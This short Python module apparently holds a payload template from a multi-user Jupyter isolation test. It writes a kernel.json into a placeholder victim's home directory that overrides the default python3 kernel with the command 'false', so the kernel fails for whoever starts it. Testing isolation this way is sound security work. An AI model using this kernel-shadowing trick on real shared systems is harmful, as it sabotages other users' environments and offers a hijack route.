"""Register a kernel of the same name in the home, which is started for everybody later."""

FIRST = """
import os

try:
    _folder = "{{VICTIM}}/home/.local/share/jupyter/kernels/python3"
    os.makedirs(_folder, exist_ok=True)
    with open(_folder + "/kernel.json", "w") as _file:
        _file.write('{"argv": ["false", "{connection_file}"], "language": "python"}')
except OSError:
    pass
"""
